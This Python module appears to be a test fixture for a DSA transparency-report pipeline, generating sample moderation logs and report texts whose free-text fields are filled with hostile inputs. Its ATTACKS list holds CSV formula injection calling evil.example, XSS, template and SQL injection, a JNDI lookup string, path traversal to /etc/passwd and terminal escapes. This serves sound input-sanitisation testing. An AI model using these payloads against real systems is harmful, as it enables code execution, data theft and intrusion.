"""A service whose logs were written by someone who wants to break in: every free text carries an attack.

All other values are valid, so that the rows are accepted where the contract allows it.
"""

import csv
import io
import json
from collections.abc import Iterator
from itertools import cycle
from typing import Any

from dsa_reports.contract import table
from dsa_reports.pipeline.sample.rebuild.dialects import Dialect, csv_bytes, plain
from dsa_reports.pipeline.sample.rebuild.records import make
from dsa_reports.pipeline.sample.small import Record
from dsa_reports.pipeline.sample.world import World, load_world

__all__ = ["ATTACKS", "files"]

ROWS, SEED = 400, 666
ATTACKS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "＝1+1", "＠SUM(A1:A9)", "\t=1+1", "<script>alert(1)</script>", "<img src=x onerror=alert(2)>", "<svg/onload=alert(3)>",
    "</style><script>alert(4)</script>", '" onmouseover="alert(5)', "<a href='javascript:alert(6)'>x</a>", "{{ 7*7 }}",
    "{% include '/etc/passwd' %}", "{{ ''.__class__.__mro__ }}", "{# comment #}", "\u202egnp.exe\u202c", "zero\u200bwidth\u2060joined\ufeff",
    "\x1b[2J\x1b[31mred\x1b[0m", "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07", "'; DROP TABLE moderation_actions; --", "' OR '1'='1",
    "url(http://evil.example/a.png)", "<style>*{background:url(file:///etc/passwd)}</style>", "file:///etc/passwd", "http://evil.example/tracker.gif",
    "<link rel=stylesheet href=http://evil.example/a.css>", "x" * 180, "Wörter" * 25, "line one\nline two", "comma, \"quote\"; semicolon",
    "]]><!--", "&lt;b&gt; &amp;amp; &#60;", "%s %n ${jndi:ldap://evil.example/a}", "../../etc/passwd", "=\u200bcmd", "NULL", "𝒔𝒕𝒚𝒍𝒆 😈",
)
"""Formulas, markup, templates, direction overrides, terminal escapes, SQL, addresses, long words."""
_KEPT = {
    "id", "puid", "uuid", "ad_id", "order_id", "notice_id", "user_report_id", "picture_hash",
    "landing_domain",  # still a text, attacked apart below
}


_LATER = ("minor_indicators", "trusted_flaggers", "statements")


def files() -> dict[str, bytes]:
    """Every generated file of the service."""
    world = load_world("prikbord")
    tables = make(world, ROWS, SEED).tables
    tables["account_events"] = tables["account_events"][:60]
    tables["advertisements"] = tables["advertisements"][:50]
    tables["statements"] = tables["statements"][:50]
    labels: dict[str, str] = {}
    attacks = cycle(ATTACKS)
    # A table that came later is attacked last: the others keep the attacks that they have.
    for name, records in sorted(tables.items(), key=lambda entry: (_LATER.index(entry[0]) if entry[0] in _LATER else -1, entry[0])):
        for record in records:
            _attack(name, record, attacks, labels)
    result = {
        f"logs/{name}.csv": csv_bytes(records, Dialect(columns=_columns(name, records)))
        for name, records in sorted(tables.items()) if records
    }
    result["maps/labels.csv"] = _map(world, labels)
    return result | _texts()


def _texts() -> dict[str, bytes]:
    """Part 11 and context cells. One statement holds templates and falls out; the others reach the report."""
    whole = [attack for attack in ATTACKS if not attack.startswith("{")]
    keys = ("summary", "detection", "automated_means", "accuracy", "purposes")
    share = len(whole) // len(keys)
    result = {
        f"texts/{key}.md": ("\n\n".join(whole[number * share : (number + 1) * share]) + "\n").encode()
        for number, key in enumerate(keys)
    }
    result["texts/safeguards.md"] = ("\n\n".join(attack for attack in ATTACKS if attack.startswith("{")) + "\n").encode()
    figures = ("4.TOTAL.notices_received", "5.TOTAL.measures", "6.TOTAL.measures", "7.complaints.value@total")
    contexts = (ATTACKS[7], ATTACKS[8], ATTACKS[0], ATTACKS[21])
    result["texts/context.toml"] = "".join(f"{json.dumps(f)} = {json.dumps(c)}\n" for f, c in zip(figures, contexts, strict=True)).encode()
    return result


def _columns(name: str, records: list[Record]) -> dict[str, str]:
    # Categories of decisions come from the value map, whose labels are attacks too.
    mapped = {"category", "category_specification", "category_specification_other"} if name == "moderation_actions" else set()
    return {k: v for k, v in plain(name, records).items() if k not in mapped}


def _attack(name: str, record: dict[str, Any], attacks: Iterator[str], labels: dict[str, str]) -> None:
    for column in table(name).columns:
        if column.name == "platform_label":
            if name == "moderation_actions":
                label = record[column.name]
                labels.setdefault(label, f"{ATTACKS[len(labels) % len(ATTACKS)].strip()} {label}".replace("\n", " "))
                record[column.name] = labels[label]
            elif record.get(column.name) is not None:
                record[column.name] = next(attacks)
        elif column.kind == "text" and column.name not in _KEPT and column.pattern is None and _wanted(record, column.name):
            record[column.name] = next(attacks)[: column.max_length]
        elif column.kind == "texts" and record.get(column.name):
            record[column.name] = [next(attacks), *record[column.name]]
    if record.get("landing_domain"):
        record["landing_domain"] = next(attacks)[:250]


def _wanted(record: Record, column: str) -> bool:
    """Fill texts that are there, and descriptions of all rows; rows of 9b to 9d and private messages stay bare."""
    bare = column in ("content_ref", "account_ref", "text", "decision_facts", "landing_url", "text_signature")
    return record.get(column) is not None or (not bare and column in ("other_description", "authority", "brand", "reason", "evidence"))


def _map(world: World, labels: dict[str, str]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(("label", "category", "report_keyword", "report_other_description", "phenomenon"))
    for profile in world.profiles:
        if profile.label in labels:
            other = ATTACKS[len(profile.label) % len(ATTACKS)].strip().replace("\n", " ") if profile.other else ""
            category = "STATEMENT_CATEGORY_ILLEGAL_OR_HARMFUL_SPEECH" if profile.category == "NOT_SPECIFIED_ORDER" else profile.category_code
            writer.writerow((labels[profile.label], category, profile.keyword_code or "", other, profile.phenomenon))
    return out.getvalue().encode()
